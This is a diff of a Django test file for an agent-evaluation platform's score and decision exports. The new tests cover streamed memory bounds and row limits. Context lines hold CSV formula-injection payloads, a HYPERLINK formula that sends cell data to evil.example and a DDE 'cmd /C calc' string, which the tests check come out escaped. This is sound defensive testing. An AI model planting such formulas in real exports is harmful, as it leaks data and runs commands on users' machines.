@@ -204,13 +204,13 @@ def test_download_view_serves_each_export(runs, user_client):
     response = user_client.get(url, {"run": [runs.beta.pk, runs.alpha.pk]})
     assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
     assert response["Content-Disposition"] == 'attachment; filename="scores-alpha-beta.csv"'
-    frame = _read(response.content, "csv")
+    frame = _read(response.getvalue(), "csv")
     assert sorted(set(frame["run"])) == ["alpha", "beta"] and len(frame) == 9
     response = user_client.get(reverse("metrics:export", args=["leaderboard", "json"]), {"paradigm": "full_plan"})
-    assert [row["run"] for row in json.loads(response.content)] == ["beta"]
+    assert [row["run"] for row in json.loads(response.getvalue())] == ["beta"]
     response = user_client.get(reverse("metrics:export", args=["aggregates", "json"]),
                                {"run": runs.alpha.pk, "job": runs.alpha_job.pk})
-    assert {row["evaluation"] for row in json.loads(response.content)} == {runs.alpha_job.pk}
+    assert {row["evaluation"] for row in json.loads(response.getvalue())} == {runs.alpha_job.pk}
 
 
 @pytest.mark.parametrize("path, query, status, message", [
@@ -261,3 +261,81 @@ def test_csv_exports_open_as_text_and_numbers_stay_numbers():
     assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")" in set(decisions["subject"])
     assert "'-2+3+cmd|' /C calc'!A0" in set(decisions["agent_text"])
     assert json.loads(exports.to_bytes(tables["decisions"], "json"))[0]["run"] == "=evil-run"  # JSON stays verbatim
+
+
+def _long_trajectory_scored(steps: int, rationale_chars: int):
+    """A run like an upload of a 1,000-step trajectory evaluated with the offline judge: its one
+    whole-trajectory decision holds every agent step and a rationale of 716,678 characters."""
+    from judges.models import DecisionKind
+    from tests.factories import (
+        EvaluationJobFactory, JudgeDecisionFactory, StepFactory, TrajectoryFactory, TrajectoryScoreFactory,
+    )
+    from trajectories.models import Step
+
+    run = AgentRunFactory(name="long")
+    trajectory = TrajectoryFactory(run=run, task=TaskFactory(task_id="77", number=77))
+    Step.objects.bulk_create([StepFactory.build(trajectory=trajectory, index=index, action=f"click [{index}]")
+                              for index in range(1, steps + 1)])
+    job = EvaluationJobFactory(status="done")
+    job.runs.add(run)
+    decision = JudgeDecisionFactory(
+        kind=DecisionKind.TRAJECTORY_MATCH, rationale="why " * (rationale_chars // 4),
+        inputs={"gold": [{"text": "Click on 'Orders'"}, {"text": "Scroll down"}],
+                "agent": [{"text": f"click [{index}]"} for index in range(1, steps + 1)]},
+        output={"matrix": [[0.0] * steps, [0.0] * steps]},
+    )
+    score = TrajectoryScoreFactory(job=job, trajectory=trajectory, agent_steps=steps, gold_steps=2,
+                                   details={"step_success": {"matched": []}})
+    score.decisions.add(decision)
+    return run, job, decision
+
+
+def test_a_long_trajectorys_decisions_stream_in_bounded_memory(settings):
+    import tracemalloc
+
+    from django.test import Client
+
+    from accounts.roles import REVIEWER
+    from django.contrib.auth.models import Group
+
+    run, job, decision = _long_trajectory_scored(1000, 716_678)
+    reviewer = UserFactory(username="rev")
+    reviewer.groups.add(Group.objects.get(name=REVIEWER))
+    client = Client()
+    client.force_login(reviewer)
+    for fmt in ("csv", "json"):
+        tracemalloc.start()
+        response = client.get(f"/api/exports/decisions.{fmt}", {"run": "long", "job": job.pk})
+        size, rationales, tail = 0, 0, b""
+        for chunk in response.streaming_content:
+            size += len(chunk)
+            rationales += (tail + chunk).count(b"[cut: 716,676 characters, sha256 ")
+            tail = chunk[-60:]
+        peak = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+        assert response.status_code == 200
+        assert rationales == 1  # written once, cut, for its 2,000 step-pair rows
+        assert size < 2 * 1024 * 1024, (fmt, size)  # the full rationale per row would be 1.4 GB
+        assert peak < 64 * 1024 * 1024, (fmt, peak)
+    rows = _read(b"".join(client.get("/api/exports/decisions.csv", {"run": "long", "job": job.pk})
+                          .streaming_content), "csv")
+    assert len(rows) == 2000 and (rows["decision_id"] == str(decision.pk)).all()
+    assert rows["rationale"].iloc[0].endswith("]") and rows["rationale"].iloc[1:].eq("").all()
+
+
+def test_an_export_over_the_row_limit_is_refused_with_a_reason(settings):
+    _, job, _ = _long_trajectory_scored(50, 100)
+    settings.EXPORT_MAX_ROWS = 99
+    user = UserFactory(username="viewer")
+    from django.test import Client
+
+    client = Client()
+    client.force_login(user)
+    response = client.get("/api/exports/decisions.csv", {"run": "long", "job": job.pk})
+    assert response.status_code == 400
+    assert "more than the limit of 99 (EXPORT_MAX_ROWS)" in response.json()["detail"]
+    page = client.get(reverse("metrics:export", args=["decisions", "json"]), {"run": job.runs.get().pk,
+                                                                              "job": job.pk})
+    assert page.status_code == 400 and "EXPORT_MAX_ROWS" in page.content.decode()
+    with pytest.raises(CommandError, match="EXPORT_MAX_ROWS"):
+        call_command("export_scores", "--run", "long", "--what", "decisions", "-o", "-", "--job", str(job.pk))
